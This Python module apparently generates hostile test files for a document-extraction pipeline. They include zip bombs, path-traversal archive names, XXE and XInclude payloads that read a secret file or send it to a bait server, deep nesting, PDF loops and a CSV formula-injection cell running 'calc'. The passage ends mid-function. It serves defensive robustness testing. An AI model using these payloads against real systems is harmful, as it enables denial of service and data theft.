"""Files made to hurt whoever reads them, in families; one function for each family."""

from __future__ import annotations

import base64
import gzip
import json
import random
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field, replace

from bench.hostile_parts import (
    BODY,
    CATALOG,
    FONT,
    HTML_TYPE,
    MB,
    ONE_ITEM,
    ONE_REFERENCE,
    PAGE,
    PAGES,
    RECORD,
    Member,
    W,
    archive,
    atom,
    book,
    chapter,
    container,
    document,
    docx,
    docx_members,
    epub_members,
    gzip_many,
    html,
    http,
    mail,
    packed,
    pdf,
    pdf_page,
    repeated,
    rss,
    shown,
    sitemap,
    stream,
    warc_record,
    whole_files,
    zlib_many,
)

Named = Iterator[tuple[str, bytes | str]]
"""Names of files, and what is in them."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Bait:
    """What no file may reach: a secret on the disk, and a server."""

    secret: str
    server: str
    rng: random.Random = field(default_factory=lambda: random.Random(1))


def zip_bombs(bait: Bait) -> Named:
    spaces, letters = b" " * MB, b"<w:p><w:r><w:t>gates </w:t></w:r></w:p>" * 26_000
    head, tail = document("|").encode().split(b"|")
    for megabytes in (60, 300, 1500):
        bomb = repeated("word/document.xml", spaces, megabytes, before=head, after=tail)
        yield f"spaces-{megabytes}.docx", docx(bomb)
        zeros = repeated("word/media/image1.png", b"\0" * MB, megabytes)
        yield f"picture-{megabytes}.docx", archive([*docx_members(), zeros])
        words = repeated("c1.xhtml", b"<p>gates closed</p>" * 50_000, megabytes)
        yield f"words-{megabytes}.epub", archive(epub_members(first=words))
    bomb = repeated("word/document.xml", letters, 300, before=head, after=tail)
    yield "paragraphs.docx", docx(bomb)
    yield "small-claim.docx", docx(replace(bomb, size=1000))
    named = repeated("META-INF/container.xml", spaces, 500)
    yield "container.epub", archive([epub_members()[0], named, *epub_members()[2:]])
    listing = repeated("book.opf", spaces, 500)
    yield "listing.epub", archive([*epub_members()[:2], listing, epub_members()[3]])
    types = repeated("[Content_Types].xml", spaces, 500)
    yield "types.docx", archive([types, *docx_members()[1:]])


def zip_nesting(bait: Bait) -> Named:
    for suffix, members in ((".docx", docx_members()), (".epub", epub_members())):
        inner = archive([repeated("bomb.bin", b"\0" * MB, 200)])
        for level in range(12):
            inner = archive([packed(f"level{level}{suffix}", inner), *members])
        yield f"nested{suffix}", inner
        data = archive(members)
        itself = Member(name=f"self{suffix}", packed=data, crc=0, size=len(data), method=0)
        yield f"itself{suffix}", archive([*members, replace(itself, crc=zlib.crc32(data))])
    whole = Member(name="word/document.xml", packed=b"", crc=0, size=2**31, method=0)
    yield "quine.docx", archive([replace(whole, packed=b"PK\3\4" * 100), *docx_members()[:2]])


def zip_overlaps(bait: Bait) -> Named:
    for count in (1000, 60_000):
        bomb = repeated("word/document.xml", b" " * MB, 30)
        copies = [replace(bomb, name=f"word/p{number}.xml") for number in range(count)]
        yield f"shared-{count}.docx", archive([bomb, *copies], shared=True)
        text = packed("c1.xhtml", chapter())
        chapters = [replace(text, name=f"c{number}.xhtml") for number in range(count)]
        yield f"shared-{count}.epub", archive([*chapters, *epub_members()], shared=True)
    yield "same-name.docx", archive([*docx_members(), *docx_members() * 5000])
    yield "claims-many.docx", archive(docx_members(), claimed=65_535)
    yield "claims-none.epub", archive(epub_members(), claimed=0)


def zip_names(bait: Bait) -> Named:
    evil = (
        "../../../tmp/evil",
        "/etc/evil",
        "word\\..\\..\\evil",
        "C:\\evil",
        "a\0b",
        "x" * 60_000,
    )
    for number, name in enumerate(evil):
        yield f"name{number}.docx", archive([packed(name, "evil"), *docx_members()])
        yield f"name{number}.epub", archive([packed(name, "evil"), *epub_members()])
    link = replace(packed("word/link.xml", bait.secret), attributes=0o120777 << 16)
    yield "link.docx", archive([*docx_members(), link])
    raw = replace(packed("x", "evil"), name=b"\xff\xfe\x80")
    yield "bytes.docx", archive([raw, *docx_members()])
    outside = book(f'<item id="c1" href="../../../..{bait.secret}" media-type="{HTML_TYPE}"/>',
                   ONE_REFERENCE)  # fmt: skip
    yield "href-outside.epub", archive(epub_members(listed=outside))
    yield "book-outside.epub", archive(epub_members(names=container(f"../..{bait.secret}")))


def xml_entities(bait: Bait) -> Named:
    laughs = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10))
    attacks = {
        "laughs": (f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]>', "&l9;"),
        "quadratic": (f'<!DOCTYPE x [<!ENTITY q "{"a" * 50_000}">]>', "&q;" * 50_000),
        "file": (f'<!DOCTYPE x [<!ENTITY f SYSTEM "file://{bait.secret}">]>', "&f;"),
        "fetch": (f'<!DOCTYPE x [<!ENTITY f SYSTEM "{bait.server}/e">]>', "&f;"),
        "subset": (f'<!DOCTYPE x SYSTEM "{bait.server}/x.dtd">', "&f;"),
        "parameter": (
            f'<!DOCTYPE x [<!ENTITY % f SYSTEM "file://{bait.secret}">'
            f"<!ENTITY % w \"<!ENTITY s SYSTEM '{bait.server}/?%f;'>\">%w;]>",
            "&s;",
        ),
        "recursive": ('<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"),
    }
    for name, (before, use) in attacks.items():
        yield f"{name}.rss", rss(title=use, before=before)
        yield f"{name}.atom", atom(use, before)
        yield f"{name}.xml", sitemap(f"<url><loc>{use}</loc></url>", before)
        yield f"{name}.xhtml", chapter(f"<p>{use}</p>", before)
        yield f"{name}.html", before + html(f"<p>{use}</p>")
        yield f"{name}.docx", docx(document(f"<w:p><w:r><w:t>{use}</w:t></w:r></w:p>", before))
        yield f"{name}-chapter.epub", archive(epub_members(first=chapter(f"<p>{use}</p>", before)))
        listed = book(ONE_ITEM, ONE_REFERENCE, before=before, title=use)
        yield f"{name}-book.epub", archive(epub_members(listed=listed))


def xml_inclusion(bait: Bait) -> Named:
    spaces = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    for name, target in (("file", f"file://{bait.secret}"), ("fetch", f"{bait.server}/i")):
        include = f'<xi:include {spaces} parse="text" href="{target}"/>'
        sheet = f'<?xml-stylesheet type="text/xsl" href="{target}"?>'
        yield f"include-{name}.rss", rss(title=include)
        yield f"include-{name}.docx", docx(document(include))
        yield f"include-{name}.epub", archive(epub_members(first=chapter(include)))
        yield f"sheet-{name}.rss", rss(before=sheet)
        yield f"frame-{name}.html", html(f'<iframe src="{target}"></iframe><img src="{target}">')
        yield f"base-{name}.html", html(head=f'<base href="{target}"><link href="{target}">')


def json_nesting(bait: Bait) -> Named:
    deep = 100_000
    nests = {
        "arrays": "[" * deep + "]" * deep,
        "objects": '{"text":' * deep + "1" + "}" * deep,
        "mixed": '[{"text":' * deep + "1" + "}]" * deep,
        "unclosed": "[" * 5_000_000,
    }
    good = json.dumps(RECORD)
    for name, nest in nests.items():
        yield f"{name}.json", nest
        yield f"{name}-field.json", good[:-1] + f', "more": {nest}}}'
        yield f"{name}.jsonl", f"{good}\n{nest}\n{good}\n"
    page = html(head=f'<script type="application/ld+json">{nests["objects"]}</script>')
    yield "linked-data.html", page


def json_values(bait: Bait) -> Named:
    values = {
        "integer": "9" * 1_000_000,
        "exponent": "1e999999999",
        "nan": "NaN",
        "infinity": "-Infinity",
        "surrogate": '"\\ud800 \\udfff"',
        "nul": '"a\\u0000b"',
        "long": f'"{"gate " * 1_900_000}"',
        "control": '"a\x01\x02b"',
        "escapes": '"' + "\\u00e9" * 1_000_000 + '"',
        "array": "[" + "1," * 3_000_000 + "1]",
    }
    for name, value in values.items():
        text = f'{{"title": "A", "text": {value}, "date": {value}}}'
        yield f"{name}.json", text
        yield f"{name}.jsonl", f"{text}\n{json.dumps(RECORD)}\n"
    many = ",".join(f'"k{number}": {number}' for number in range(600_000))
    yield "keys.json", f"{{{many}}}"
    yield "same-keys.json", "{" + '"text": "a",' * 600_000 + '"text": "b"}'


def jsonl_lines(bait: Bait) -> Named:
    good = json.dumps(RECORD)
    yield "long-line.jsonl", json.dumps({"text": "gates " * 30_000_000}) + "\n" + good + "\n"
    yield "no-newline.jsonl", '{"text": "' + "a" * 100_000_000
    yield "returns-only.jsonl", (good + "\r") * 20_000
    yield "bad-lines.jsonl", "{\n" * 300_000
    yield "empty-lines.jsonl", "\n" * 20_000_000
    yield "tiny.jsonl", '{"text": "a b"}\n' * 100_000
    yield "numbers.jsonl", "1\n" * 500_000
    yield "wide.jsonl", good.encode("utf-16")
    yield "squad.json", json.dumps({"data": [{"paragraphs": [{"context": 5, "qas": [[]]}]}] * 1000})


def warc_lies(bait: Bait) -> Named:
    page = http(html().encode())
    lengths: list[int | str] = [10**15, -1, 0, "x", "9" * 5000, 2**63, "", 7]
    for number, length in enumerate(lengths):
        lie = warc_record(page, length=length)
        yield f"length{number}.warc", lie + warc_record(page)
        yield f"length{number}.warc.gz", gzip.compress(lie + warc_record(page))
    yield "headers.warc", warc_record(page, more="X-A: b\r\n" * 500_000)
    yield "long-header.warc", warc_record(page, more=f"X-A: {'b' * 20 * MB}\r\n")
    yield "http-headers.warc", warc_record(http(b"x", *["X-A: b"] * 500_000))
    yield "no-end.warc", b"WARC/1.0\r\n" + b"a" * 20 * MB
    yield "empty-records.warc", warc_record(b"", kind="metadata") * 100_000
    chunked = http(b"FFFFFFFFFFFF\r\nabc", "Transfer-Encoding: chunked")
    yield "chunks.warc", warc_record(chunked)
    yield "versions.warc", b"WARC/9.9\r\n" * 100_000


def warc_bombs(bait: Bait) -> Named:
    page = http(html().encode())
    block = b"<p>gates closed</p>" * 50_000
    for megabytes in (50, 500, 3000):
        record = warc_record(page, length=megabytes * len(block))
        yield f"record-{megabytes}.warc.gz", gzip_many(block, megabytes, before=record[:-4])
        yield f"head-{megabytes}.warc.gz", gzip_many(b"WARC" * 250_000, megabytes)
    for coding, body in (
        ("gzip", gzip_many(block, 1500)),
        ("deflate", zlib_many(block, 1500)),
        ("gzip, gzip, gzip", gzip.compress(gzip.compress(gzip_many(block, 500)))),
        ("br", bait.rng.randbytes(5000)),
    ):
        record = warc_record(http(body, f"Content-Encoding: {coding}"))
        yield f"body-{coding.replace(', ', '-')}.warc", record
        yield f"body-{coding.replace(', ', '-')}.warc.gz", gzip.compress(record)
    yield "members.warc.gz", gzip.compress(b"") * 200_000


def pdf_streams(bait: Bait) -> Named:
    text = (shown() + b"\n") * 8000
    for megabytes in (100, 1500):
        bomb = zlib_many(b" " * MB, megabytes)
        yield f"spaces-{megabytes}.pdf", pdf_page(stream(bomb, b"/Filter/FlateDecode"))
        words = zlib_many(text, megabytes)
        yield f"words-{megabytes}.pdf", pdf_page(stream(words, b"/Filter/FlateDecode"))
    twice = zlib.compress(zlib_many(b" " * MB, 4000))
    for times in (2, 10, 1000):
        filters = b"/Filter[" + b"/FlateDecode" * times + b"]"
        yield f"nested-{times}.pdf", pdf_page(stream(twice, filters))
    runs = b"\x81 " * 2_000_000
    yield "runs.pdf", pdf_page(stream(runs, b"/Filter/RunLengthDecode"))
    yield "runs-twice.pdf", pdf_page(stream(runs, b"/Filter[/RunLengthDecode/RunLengthDecode]"))
    yield "lzw.pdf", pdf_page(stream(bait.rng.randbytes(MB), b"/Filter/LZWDecode"))
    hexadecimal = b"/Filter[" + b"/ASCIIHexDecode" * 20 + b"]"
    yield "hex.pdf", pdf_page(stream(b"20" * MB, hexadecimal))
    for columns in (10**9, -5, 2**40):
        wide = b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns %d>>" % columns
        yield f"columns{columns}.pdf", pdf_page(stream(zlib.compress(text[:9000]), wide))
    yield (
        "operators.pdf",
        pdf_page(stream(zlib.compress(b"q " * 9_000_000), b"/Filter/FlateDecode")),
    )
    glyphs = b"BT /F1 9 Tf " + b"1 0 0 1 3 4 Tm (a) Tj " * 400_000 + b"ET"
    yield "glyphs.pdf", pdf_page(stream(zlib.compress(glyphs), b"/Filter/FlateDecode"))


def pdf_loops(bait: Bait) -> Named:
    good = stream(shown())
    yield "previous.pdf", pdf([CATALOG, PAGES, PAGE, good, FONT], b"/Prev 9")
    table = pdf([CATALOG, PAGES, PAGE, good, FONT]).index(b"xref\n")
    yield "previous-itself.pdf", pdf([CATALOG, PAGES, PAGE, good, FONT], b"/Prev %d" % table)
    yield "kids.pdf", pdf([CATALOG, b"<</Type/Pages/Kids[2 0 R]/Count 1>>"])
    yield (
        "kids-round.pdf",
        pdf([CATALOG, b"<</Type/Pages/Kids[3 0 R]>>", b"<</Type/Pages/Kids[2 0 R 3 0 R]>>"]),
    )
    wide = b"<</Type/Pages/Kids[%s]/Count 4>>"
    doubling = [wide % (b"%d 0 R " % (number + 1) * 10) for number in range(2, 30)]
    yield "kids-doubling.pdf", pdf([CATALOG, *doubling, PAGE])
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X1 6 0 R>>>>"
    yield "form-itself.pdf", pdf_page(stream(b"/X1 Do"), stream(b"/X1 Do /X1 Do", form))
    forms = [
        stream(b"/X1 Do " * 10, form.replace(b"6 0 R", b"%d 0 R" % (number + 1)))
        for number in range(6, 30)
    ]
    yield "forms-doubling.pdf", pdf_page(stream(b"/X1 Do"), *forms)
    yield "length-itself.pdf", pdf_page(b"<</Length 4 0 R>>\nstream\nabc\nendstream")
    yield "root-itself.pdf", pdf([b"1 0 R"])
    yield "parents.pdf", pdf([CATALOG, PAGES, PAGE.replace(b"2 0 R/Media", b"3 0 R/Media")])
    outline = b"<</Type/Catalog/Pages 2 0 R/Outlines 6 0 R>>"
    entry = b"<</First 6 0 R/Next 6 0 R/Title(a)>>"
    yield "outline.pdf", pdf([outline, PAGES, PAGE, good, FONT, entry])
    extending = b"/Type/ObjStm/N 9/First 0/Extends 4 0 R"
    yield "object-stream.pdf", pdf_page(stream(b"1 0 2 0 3 0", extending))


def pdf_structures(bait: Bait) -> Named:
    good = stream(shown())
    for count in (10**6, 10**12, -1):
        pages = b"<</Type/Pages/Kids[3 0 R]/Count %d>>" % count
        yield f"count{count}.pdf", pdf([CATALOG, pages, PAGE, good, FONT])
    many = b"<</Type/Pages/Kids[%s]/Count 100000>>" % (b"3 0 R " * 100_000)
    yield "pages.pdf", pdf([CATALOG, many, PAGE, good, FONT])
    for name, nest in (("arrays", b"[" * 100_000), ("dictionaries", b"<</A" * 100_000)):
        yield f"{name}.pdf", pdf([CATALOG, PAGES, nest, good, FONT])
        yield f"{name}-content.pdf", pdf_page(stream(nest))
    yield "strings.pdf", pdf_page(stream(b"BT " + b"(" * 1_000_000))
    yield "size.pdf", pdf([CATALOG, PAGES, PAGE, good, FONT], b"/Size 99999999999")
    yield "no-pages.pdf", pdf([b"<</Type/Catalog>>"])
    yield "start.pdf", pdf([CATALOG, PAGES, PAGE, good, FONT], start=10**18)
    yield "no-table.pdf", pdf([CATALOG, PAGES, PAGE, good, FONT]).replace(b"xref", b"nerf")
    yield "objects.pdf", pdf([CATALOG, PAGES, PAGE, good, FONT, *[b"null"] * 200_000])
    yield "marks-of-end.pdf", b"%PDF-1.7\n" + b"startxref\n0\n%%EOF\n" * 200_000
    ranges = b"begincodespacerange <0000><FFFF> endcodespacerange\n" + (
        b"1 beginbfrange <0000> <FFFFFFFF> <0041> endbfrange\n" * 200
    )
    mapped = FONT[:-2] + b"/ToUnicode 6 0 R>>"
    yield "map.pdf", pdf([CATALOG, PAGES, PAGE, good, mapped, stream(ranges)])
    locked = b"/Encrypt<</Filter/Standard/V 5/R 6/Length 99999/O(a)/U(b)/P -1>>/ID[(a)(b)]"
    yield "locked.pdf", pdf([CATALOG, PAGES, PAGE, good, FONT], locked)
    facts = b"/Info<</Title(%s)/CreationDate(D:99999999999999Z)>>" % (b"t" * 3_000_000)
    yield "facts.pdf", pdf([CATALOG, PAGES, PAGE, good, FONT], facts)
    box = PAGE.replace(b"0 0 612 792", b"0 0 1e300 -1e300")
    yield "box.pdf", pdf([CATALOG, PAGES, box, good, FONT])
    yield "size-of-type.pdf", pdf_page(stream(shown().replace(b"9 Tf", b"1e308 Tf")))


def html_depth(bait: Bait) -> Named:
    text = BODY[0]
    for deep in (10_000, 100_000):
        for tag in ("div", "span", "b", "table><tr><td", "ul><li", "blockquote", "p", "a", "font"):
            name = tag.replace("><", "-")
            yield f"{name}-{deep}.html", html(f"<{tag}>" * deep + text)
        closing = "<div>" * deep + text + "</div>" * deep
        yield f"closed-{deep}.html", html(closing)
        yield f"article-{deep}.html", html("<article><p>gates" * deep)
        yield f"mixed-{deep}.html", html("<b><p><i>" * deep + text)
        yield f"div-{deep}.xhtml", chapter("<div>" * deep + text + "</div>" * deep)
    yield "div.epub", archive(epub_members(first=chapter("<div>" * 100_000 + "</div>" * 100_000)))
    yield "div.rss", rss(f"<item><title>a</title><description><![CDATA[{'<div>' * 100_000}{text}]]>"
                         "</description></item>")  # fmt: skip
    yield "div.eml", mail(html("<div>" * 100_000 + text), ["Content-Type: text/html"])


def html_width(bait: Bait) -> Named:
    attributes = "".join(f" a{number}=b" for number in range(700_000))
    yield "attributes.html", html(f"<p{attributes}>{BODY[0]}</p>")
    yield "same-attribute.html", html(f"<p{' class=x' * 1_000_000}>{BODY[0]}</p>")
    yield "long-attribute.html", html(f'<p class="{"a" * 9_000_000}">{BODY[0]}</p>')
    yield "classes.html", html(f'<p class="{"share menu " * 800_000}">{BODY[0]}</p>')
    yield "data-address.html", html(f'<img src="data:image/png;base64,{"A" * 9_000_000}">')
    for name, piece in {
        "comments": "<!--",
        "sections": "<![CDATA[",
        "instructions": "<?",
        "types": "<!DOCTYPE x",
        "scripts": "<script>",
        "ends": "</p>",
        "brackets": "<",
        "entities": "&amp",
        "references": "&#x110000;",
        "breaks": "<br>",
        "paragraphs": "<p>a",
        "links": '<a href="x">y</a>',
        "headings": "<h2>Gates</h2>",
        "scripts-json": '<script type="application/ld+json">{}</script>',
        "titles": "<title>a</title>",
        "metas": '<meta name="date" content="2031-05-06">',
        "times": "<time datetime=2031>x</time>",
    }.items():
        yield f"{name}.html", html("".join(f"<p>{text}</p>" for text in BODY) + piece * (
            9_000_000 // len(piece) if piece in ("<", "<br>", "<p>a") else 2_000_000 // len(piece)
        ))  # fmt: skip
    yield "one-word.html", html("<p>" + "a" * 9_000_000)
    yield "one-line.html", html("<p>" + "gates close " * 750_000)


def patterns(bait: Bait) -> Named:
    """Text that makes a careless regular expression take its time."""
    pieces = {
        "spaces": " ",
        "lines": "\n",
        "tabs": "\t \n",
        "letters": "a",
        "digits": "1",
        "dashes": "-",
        "dates": "2031-05-",
        "days": "Tuesday, ",
        "by": "By ",
        "copyright": "© 2031 ",
        "all-rights": "Copyright 20",
        "at": "a@",
        "addresses": "http://",
        "dots": ". ",
        "quotes": "“",
        "pipes": " | ",
        "colons": "a: ",
        "marks": "?!",
        "accents": "e\u0301",
        "joined": "\u200d",
        "controls": "\x85\u2028",
        "initials": "A. B. ",
    }
    for name, piece in pieces.items():
        run = piece * (1_500_000 // len(piece.encode()))
        yield f"{name}.html", html(f"<p>{BODY[0]}</p><p>{run}</p><p>{BODY[1]}</p>")
        yield (
            f"{name}.json",
            json.dumps({"title": "A", "text": f"{BODY[0]}\n\n{run}x\n\n{BODY[1]}"}),
        )
    for name in ("dates", "by", "copyright", "digits"):
        page = html(head=f'<meta name="date" content="{pieces[name] * 90_000}">')
        yield f"{name}-meta.html", page


def charsets(bait: Bait) -> Named:
    codecs = "rot13 zlib base64 idna bz2 unicode_escape raw_unicode_escape punycode undefined"
    names = ["utf-7", "utf-16", "utf-32", "hz", "x-evil", "a" * 100_000, *codecs.split()]
    for name in names:
        shown_name = name[:20]
        head = f'<meta charset="{name}">'
        yield f"{shown_name}.html", html(head=head)
        yield f"{shown_name}.eml", mail(headers=[f"Content-Type: text/plain; charset={name}"])
        yield f"{shown_name}.rss", rss().replace('"1.0"', f'"1.0" encoding="{name}"', 1)
        record = http(html().encode()).replace(b"utf-8", name.encode(), 1)
        yield f"{shown_name}.warc", warc_record(record)
    for name in ("utf-16-le", "utf-16-be", "utf-32-le", "utf-7", "shift_jis", "cp037"):
        for suffix, whole in (("html", html()), ("json", json.dumps(RECORD)), ("csv", "text\na b")):
            yield f"{name}-unmarked.{suffix}", whole.encode(name)
    yield "bytes.html", html().replace("gates", "|").encode().replace(b"|", b"\xff\xc0\x80\xed\xa0")
    yield "surrogates.html", html("<p>&#xD800; &#0; &#x80; &#xFFFF;</p>" * 100 + BODY[0])
    zipped = base64.b64encode(zlib.compress(b"a" * 50 * MB)).decode()
    yield "zipped.eml", mail(zipped, ["Content-Type: text/plain; charset=zlib",
                                      "Content-Transfer-Encoding: base64"])  # fmt: skip


def truncated(bait: Bait) -> Named:
    for suffix, data in whole_files().items():
        for part in (1, 10, 50, 90, 99):
            yield f"{part}{suffix}", data[: max(1, len(data) * part // 100)]


def damaged(bait: Bait) -> Named:
    for suffix, data in whole_files().items():
        for number in range(4):
            changed = bytearray(data)
            for _ in range(1 + number * len(data) // 100):
                changed[bait.rng.randrange(len(data))] = bait.rng.randrange(256)
            yield f"{number}{suffix}", bytes(changed)


def wrong_suffixes(bait: Bait) -> Named:
    contents = {
        "program": b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff" + bait.rng.randbytes(5000),
        "picture": b"\x89PNG\r\n\x1a\n" + bait.rng.randbytes(5000),
        "page": html().encode(),
        "document": pdf_page(stream(shown())),
        "word": docx(),
        "zip": archive([packed("a.txt", "a")]),
        "feed": rss().encode(),
        "text": b"The gates closed.\n" * 50,
    }
    for name, content in contents.items():
        for suffix in whole_files():
            yield f"{name}{suffix}", content


def nothing(bait: Bait) -> Named:
    for suffix in whole_files():
        yield f"empty{suffix}", b""
        yield f"blank{suffix}", b" \r\n\t" * 1000
        yield f"nul{suffix}", b"\0" * MB
        yield f"mark{suffix}", b"\xef\xbb\xbf"


def noise(bait: Bait) -> Named:
    heads = {
        ".pdf": b"%PDF-1.7\n",
        ".docx": b"PK\3\4",
        ".epub": b"PK\3\4",
        ".warc.gz": b"\x1f\x8b\x08\0",
    }
    for suffix in whole_files():
        for size in (100, 300_000):
            yield f"{size}{suffix}", bait.rng.randbytes(size)
        if suffix in heads:
            yield f"headed{suffix}", heads[suffix] + bait.rng.randbytes(100_000)
            yield f"ended{suffix}", whole_files()[suffix] + bait.rng.randbytes(100_000)


def dates(bait: Bait) -> Named:
    absurd = (
        *("9999-99-99", "0000-00-00", "1000000000-01-01", "-1", "1e308", "2031-02-30", "now"),
        *("٢٠٣١-٠٥-٠٦", "2031-05-06T99:99:99+99:99", "253402300800", "-99999999999999"),
        *("2" * 100_000, "2031-05-06T09:00:00.1234567890123456789Z"),
    )
    for number, date in enumerate(absurd):
        yield f"{number}.html", html(head=f'<meta name="date" content="{date}">')
        linked = json.dumps({"@type": "NewsArticle", "datePublished": date})
        linked_data = f'<script type="application/ld+json">{linked}</script>'
        yield f"{number}-linked.html", html(head=linked_data)
        item = f"<item><pubDate>{date}</pubDate><description>{BODY[0]}</description></item>"
        yield f"{number}.rss", rss(item)
        yield f"{number}.atom", atom().replace("2031-05-06T09:00:00Z", date)
        yield f"{number}.jsonl", json.dumps(RECORD | {"date": date})
        yield f"{number}.csv", f'title,text,date\na,"{BODY[0]}",{date}\n'
        yield f"{number}.eml", mail().replace("Tue, 06 May 2031 09:00:00 +0200", date)
        facts = b"/Info<</CreationDate(D:%s)>>" % date.encode()
        yield f"{number}.pdf", pdf([CATALOG, PAGES, PAGE, stream(shown()), FONT], facts)


def mails(bait: Bait) -> Named:
    nested = "".join(
        f"Content-Type: multipart/mixed; boundary=b{number}\r\n\r\n--b{number}\r\n"
        for number in range(10_000)
    )
    yield "multipart.eml", "Subject: a\r\nMIME-Version: 1.0\r\n" + nested + "\r\nThe end"
    yield (
        "same-boundary.eml",
        "MIME-Version: 1.0\r\n"
        + ("Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n" * 10_000),
    )
    yield "messages.eml", "Content-Type: message/rfc822\r\n\r\n" * 10_000 + BODY[0]
    parts = "--b\r\nContent-Type: text/plain\r\n\r\ngates\r\n" * 100_000
    yield "parts.eml", mail(parts, ["Content-Type: multipart/mixed; boundary=b"])
    yield "empty-boundary.eml", mail(parts, ['Content-Type: multipart/mixed; boundary=""'])
    yield "no-boundary.eml", mail(parts, ["Content-Type: multipart/mixed"])
    yield "headers.eml", mail(headers=["X-A: b"] * 500_000)
    yield "long-header.eml", mail(headers=[f"X-A: {'b' * 9_000_000}"])
    yield "folded.eml", mail(headers=["X-A: b", *[" c"] * 1_000_000])
    yield "words.eml", mail().replace("Barrier opens", "=?utf-8?q?gates?= " * 200_000)
    yield "word-odd.eml", mail().replace("Barrier opens", "=?zlib?b?AAAA?= =?x?x?x?=")
    yield "addresses.eml", mail().replace("news@example.org", "(" * 100_000)
    yield "many-addresses.eml", mail(headers=["To: " + "a@example.org, " * 200_000])
    yield "base64.eml", mail("A" * 9_000_001, ["Content-Transfer-Encoding: base64"])
    yield "quoted.eml", mail("=" * 9_000_000, ["Content-Transfer-Encoding: quoted-printable"])
    parameters = "; ".join(f"a*{number}=b" for number in range(100_000))
    yield "parameters.eml", mail(headers=[f"Content-Type: text/plain; {parameters}"])
    yield "page.eml", mail(html("<p>" * 1_000_000), ["Content-Type: text/html"])


def tables(bait: Bait) -> Named:
    head = "title,text,date\n"
    row = f'a,"{BODY[0]}",2031-05-06\n'
    yield "columns.csv", ",".join(f"c{number}" for number in range(10**6)) + "\n" + "," * 10**6
    yield "unclosed.csv", head + 'a,"' + "gates,\n" * 1_200_000
    yield "quotes.csv", head + '"' * 9_000_000
    yield "quote-pairs.csv", head + '""' * 4_000_000
    yield "field.csv", f'{head}a,"{"gates " * 1_500_000}",b\n{row}'
    yield "commas.csv", head + "," * 9_000_000
    yield "nul.csv", head + "a,b\0c,d\n" + row
    yield "empty-rows.csv", head + ",,\n" * 1_000_000 + row
    yield "rows.csv", head + "a,gates close,2031\n" * 200_000
    yield "returns.csv", (head + row * 1000).replace("\n", "\r")
    yield "same-heads.csv", "text," * 100_000 + "\n" + "a," * 100_000
    yield "wide.csv", (head + row).encode("utf-16")
    yield "tabs.tsv", "\t" * 9_000_000
    yield "formula.csv", head + '=cmd|"/c calc"!A1,@SUM(1),2031\n' + row


def feeds(bait: Bait) -> Named:
    yield "items.rss", rss("<item/>" * 1_000_000)
    yield "titles.rss", rss("<item><title>a</title></item>" * 300_000)
    yield (
        "entries.atom",
        atom().replace("</feed>", "<entry><id>a</id></entry>" * 300_000 + "</feed>"),
    )
    yield "deep.rss", rss("<item>" * 100_000)
    yield "deep-tags.rss", rss("".join(f"<a{number}>" for number in range(100_000)))
    yield "deep.atom", atom("<div>" * 100_000)
    yield "section.rss", rss("<item><description><![CDATA[" + "gates " * 1_000_000)
    yield (
        "escaped.rss",
        rss(f"<item><title>a</title><description>{'&amp;' * 1_500_000}</description></item>"),
    )
    spaces = "".join(f' xmlns:n{number}="u{number}"' for number in range(100_000))
    yield "namespaces.rss", rss().replace("<rss", f"<rss{spaces}")
    attributes = "".join(f' a{number}="b"' for number in range(400_000))
    yield "attributes.rss", rss().replace("<rss", f"<rss{attributes}")
    yield (
        "categories.rss",
        rss(f"<item>{'<category>a</category>' * 300_000}<title>a</title></item>"),
    )
    yield "name.rss", rss(f"<{'a' * 9_000_000}/>")
    index = sitemap("<sitemap><loc>http://example.org/map.xml</loc></sitemap>" * 50_000)
    yield "index.xml", index.replace("urlset", "sitemapindex")
    yield "itself.xml", sitemap(f"<sitemap><loc>{bait.server}/itself.xml</loc></sitemap>")
    yield "places.xml", sitemap("<url><loc>http://example.org/a</loc></url>" * 200_000)
    yield "deep.xml", sitemap("<url>" * 100_000)
    yield "unknown.xml", "<x>" * 100_000


def epub_structures(bait: Bait) -> Named:
    yield "same-chapter.epub", archive(epub_members(listed=book(ONE_ITEM, ONE_REFERENCE * 100_000)))
    items = "".join(f'<item id="i{number}" href="c1.xhtml"/>' for number in range(50_000))
    spine = "".join(f'<itemref idref="i{number}"/>' for number in range(50_000))
    yield "many-names.epub", archive(epub_members(listed=book(items, spine)))
    large = chapter("<p>gates close again</p>" * 150_000)
    many = archive(epub_members(first=large, listed=book(items, spine)))
    yield "large-chapter-often.epub", many
    yield (
        "missing.epub",
        archive(epub_members(listed=book(ONE_ITEM.replace("c1.x", "no.x"), ONE_REFERENCE))),
    )
    yield "no-item.epub", archive(epub_members(listed=book("", ONE_REFERENCE)))
    yield (
        "itself.epub",
        archive(epub_members(listed=book(ONE_ITEM.replace("c1.x", "book.opf?"), ONE_REFERENCE))),
    )
    yield "container-itself.epub", archive(epub_members(names=container("META-INF/container.xml")))
    locked = packed("META-INF/encryption.xml", "<encryption/>")
    yield "locked.epub", archive([*epub_members(), locked])
    yield (
        "titles.epub",
        archive(epub_members(listed=book(ONE_ITEM, ONE_REFERENCE, title="a" * 5_000_000))),
    )
    yield "items.epub", archive(epub_members(listed=book("<item/>" * 500_000, ONE_REFERENCE * 9)))


def word_structures(bait: Bait) -> Named:
    cell = "<w:tbl><w:tr><w:tc>"
    for deep in (200, 5000, 50_000):
        end = "<w:p/></w:tc></w:tr></w:tbl>"
        yield f"tables-{deep}.docx", docx(document(cell * deep + end * deep))
        boxes = "<w:sdt><w:sdtContent>" * deep + "</w:sdtContent></w:sdt>" * deep
        yield f"boxes-{deep}.docx", docx(document(boxes))
    runs = "<w:r><w:t>a</w:t></w:r>" * 1_000_000
    yield "runs.docx", docx(document(f"<w:p>{runs}</w:p>"))
    yield "paragraphs.docx", docx(document("<w:p/>" * 1_000_000))
    wide = "<w:tbl>" + ("<w:tr>" + "<w:tc><w:p/></w:tc>" * 1000 + "</w:tr>") * 300 + "</w:tbl>"
    yield "cells.docx", docx(document(wide))
    span = '<w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr>'
